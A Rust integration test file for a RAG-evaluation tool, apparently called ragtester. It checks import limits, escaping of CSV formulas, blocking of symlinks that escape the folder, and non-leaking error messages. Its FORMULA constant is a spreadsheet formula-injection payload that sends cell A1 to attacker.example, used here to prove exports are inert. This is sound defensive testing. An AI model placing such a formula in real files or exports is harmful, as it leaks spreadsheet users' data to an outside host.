//! Files from elsewhere stay harmless: imported answers obey the limits live ones do (metadata checked,
//! sums saturating, long answers cut, nothing sliced by bytes), every CSV ragtester writes is inert in a
//! spreadsheet and reads back as it was, ingest stays in the folder it is given, and a model spec that
//! names any file says what is wrong with it, not what it holds.

mod common;

use serde_json::{Value, json};
use std::path::Path;
use std::process::Output;

fn ragtester(args: &[&str]) -> Output {
    common::bin().args(args).output().unwrap()
}

fn ok(args: &[&str]) -> Output {
    common::succeeds(common::bin().args(args))
}

fn text(bytes: &[u8]) -> String {
    String::from_utf8_lossy(bytes).into_owned()
}

/// Every cell of a CSV file, headers included.
fn cells(path: &Path) -> Vec<String> {
    let mut reader = csv::ReaderBuilder::new()
        .has_headers(false)
        .from_path(path)
        .unwrap();
    reader
        .records()
        .flat_map(|r| r.unwrap().iter().map(str::to_string).collect::<Vec<_>>())
        .collect()
}

/// No cell a spreadsheet would evaluate as a formula.
fn assert_inert(path: &Path) {
    for cell in cells(path) {
        let number = cell.parse::<f64>().is_ok();
        assert!(
            !cell.starts_with(['=', '+', '@', '\t', '\r']) && (!cell.starts_with('-') || number),
            "{}: a live formula cell {cell:?}",
            path.display()
        );
    }
}

const FORMULA: &str = "=HYPERLINK(\"http://attacker.example/?\"&A1,\"open\")";

#[test]
fn imported_answers_obey_the_limits_and_every_csv_is_inert() {
    let tmp = tempfile::tempdir().unwrap();
    let demo = common::shared_demo();
    let suite: Vec<Value> = std::fs::read_to_string(demo.join("suite.jsonl"))
        .unwrap()
        .lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect();
    // A conversation's turn whose id is several-byte characters, as another team's log may name it.
    let mut turn = suite
        .iter()
        .find(|c| c["turn"].is_object())
        .unwrap()
        .clone();
    turn["turn"]["conversation"] = json!("对话一二三四五六七八九");
    let meta = |case: &Value, total_ms: f64| {
        json!({"case": case, "contexts": [], "usage": {"prompt_tokens": u64::MAX, "completion_tokens": 1},
               "latency": {"retrieval_ms": 0.0, "generation_ms": 0.0, "total_ms": total_ms}})
    };
    let other = suite.iter().find(|c| c["turn"].is_null()).unwrap();
    let long = "答".repeat(20_000);
    let rows = [
        json!({"query": turn["query"], "reference": turn["expected_answer"], "answer": FORMULA,
               "contexts": [], "ragtester": meta(&turn, 5.0)}),
        json!({"query": other["query"], "reference": other["expected_answer"], "answer": "x",
               "contexts": [], "ragtester": meta(other, -1e300)}),
        json!({"query": "@who wrote it?", "reference": "-1+1", "answer": long, "latency_ms": 12,
               "usage": {"prompt_tokens": u64::MAX, "completion_tokens": 3}}),
    ];
    let file = tmp.path().join("logs.jsonl");
    let lines: Vec<String> = rows.iter().map(Value::to_string).collect();
    std::fs::write(&file, lines.join("\n")).unwrap();
    let run = tmp.path().join("run");
    let r = run.to_str().unwrap();
    let corpus = demo.join("corpus");
    let out = ragtester(&[
        "--limit",
        "answer_kb=16",
        "import",
        "--answers",
        file.to_str().unwrap(),
        "--docs",
        corpus.to_str().unwrap(),
        "--out",
        r,
    ]);
    let said = text(&out.stderr);
    assert!(run.join("answers.jsonl").is_file(), "{said}");
    assert!(
        said.contains("line 2") && said.contains("metadata"),
        "{said}"
    );
    assert!(
        said.contains("line 3") && said.contains("answer_kb"),
        "{said}"
    );
    let answers: Vec<Value> = std::fs::read_to_string(run.join("answers.jsonl"))
        .unwrap()
        .lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect();
    assert_eq!(answers.len(), 2);
    let cut = answers
        .iter()
        .find(|a| a["truncated_from"].is_u64())
        .unwrap();
    assert_eq!(cut["truncated_from"], json!(long.len()));
    assert!(cut["answer"].as_str().unwrap().len() <= 16 * 1024);

    ok(&["judge", r]);
    ok(&["report", r]);
    let summary: Value =
        serde_json::from_str(&std::fs::read_to_string(run.join("summary.json")).unwrap()).unwrap();
    let config = &summary["configs"][0];
    assert_eq!(config["prompt_tokens"], json!(u64::MAX), "sums saturate");
    let p50 = config["latency_p50_ms"].as_f64().unwrap();
    assert!((0.0..=12.0).contains(&p50), "{p50}");
    let junit = std::fs::read_to_string(run.join("junit.xml")).unwrap();
    assert!(
        junit.contains("[conversation 对话一二三四五六 turn"),
        "{junit}"
    );
    assert_inert(&run.join("results.csv"));
    assert!(
        cells(&run.join("results.csv")).contains(&format!("'{FORMULA}")),
        "the answer is kept, made inert"
    );

    // The audit sheet people open in a spreadsheet to label.
    ok(&["audit", r]);
    if run.join("audit.csv").is_file() {
        assert_inert(&run.join("audit.csv"));
    }

    // A DeepEval CSV export is inert, and imported back it gives the answer as it was.
    let export = tmp.path().join("theirs.csv");
    let e = export.to_str().unwrap();
    ok(&["export", r, "--format", "deepeval", "--out", e]);
    assert_inert(&export);
    let back = tmp.path().join("back");
    let b = back.to_str().unwrap();
    let c = corpus.to_str().unwrap();
    let _ = ragtester(&["import", "--answers", e, "--docs", c, "--out", b]);
    let again = std::fs::read_to_string(back.join("answers.jsonl")).unwrap();
    assert!(
        again
            .lines()
            .any(|l| serde_json::from_str::<Value>(l).unwrap()["answer"] == FORMULA),
        "{again}"
    );
}

#[cfg(unix)]
#[test]
fn ingest_skips_a_link_out_of_its_folder_unless_told_to_follow() {
    let tmp = tempfile::tempdir().unwrap();
    let private = tmp.path().join("private.md");
    std::fs::write(&private, "# Salaries\n\nAlice earns 9,000 a month.").unwrap();
    let docs = tmp.path().join("docs");
    std::fs::create_dir(&docs).unwrap();
    std::fs::write(
        docs.join("manual.md"),
        "# Pump\n\nThe pump runs at 4.5 bar.",
    )
    .unwrap();
    std::os::unix::fs::symlink(&private, docs.join("notes.md")).unwrap();
    let (d, out) = (docs.to_str().unwrap(), tmp.path().join("out"));
    let o = out.to_str().unwrap();
    let done = ok(&["ingest", d, "--out", o]);
    let records = std::fs::read_to_string(out.join("documents.jsonl")).unwrap();
    assert!(!records.contains("Alice"), "{records}");
    assert!(records.contains("4.5 bar"));
    let said = text(&done.stderr);
    assert!(
        said.contains("notes.md") && said.contains("--follow-symlinks"),
        "{said}"
    );
    ok(&["ingest", d, "--out", o, "--follow-symlinks"]);
    let records = std::fs::read_to_string(out.join("documents.jsonl")).unwrap();
    assert!(records.contains("Alice"));
}

#[test]
fn a_model_spec_naming_any_file_says_what_is_wrong_not_what_it_holds() {
    let tmp = tempfile::tempdir().unwrap();
    let run = tmp.path().join("run");
    common::demo_copy(&run);
    let secret = tmp.path().join("secret.txt");
    std::fs::write(&secret, "hello, this is private").unwrap();
    let spec = format!("local:{}", secret.display());
    let out = common::bin()
        .args(["judge", run.to_str().unwrap(), "--judge", &spec])
        .env("RUST_BACKTRACE", "1")
        .output()
        .unwrap();
    assert!(!out.status.success());
    let said = text(&out.stderr);
    assert!(said.contains(&secret.display().to_string()), "{said}");
    assert!(said.contains("not a GGUF model file"), "{said}");
    // Neither the file's first bytes (as hex or text) nor a backtrace.
    for leak in ["0x6c6c6568", "hello", "candle_core", "   0: "] {
        assert!(!said.contains(leak), "{leak:?} in {said}");
    }
}

/// A command's `--limit` reaches ingestion through the stages, which are handed it: with PDFs held to one
/// page, the bundled two-page PDFs each fail with the limit named, and the suite is written from the rest.
#[test]
fn a_command_s_limits_reach_the_documents_it_reads() {
    let tmp = tempfile::tempdir().unwrap();
    let suite = tmp.path().join("suite.jsonl");
    let out = ragtester(&[
        "--limit",
        "pdf_pages=1",
        "generate",
        "--docs",
        common::corpus().to_str().unwrap(),
        "--out",
        suite.to_str().unwrap(),
        "--n-test",
        "1",
        "--conversations",
        "0",
    ]);
    // Each file's message whole again: the terminal's width folds a long one.
    let said = text(&out.stderr).replace("\n  ", " ");
    assert!(suite.is_file(), "{said}");
    for pdf in [
        "cedar-valley-water-report.pdf",
        "xinghai-cold-chain-guide.pdf",
    ] {
        let line = said.lines().find(|l| l.contains(pdf)).unwrap_or_default();
        assert!(line.contains("pdf_pages"), "{pdf}: {said}");
    }
    let cases: Vec<Value> = std::fs::read_to_string(&suite)
        .unwrap()
        .lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect();
    assert!(!cases.is_empty());
    assert!(cases.iter().all(|c| !c["document_id"].is_null()));
}
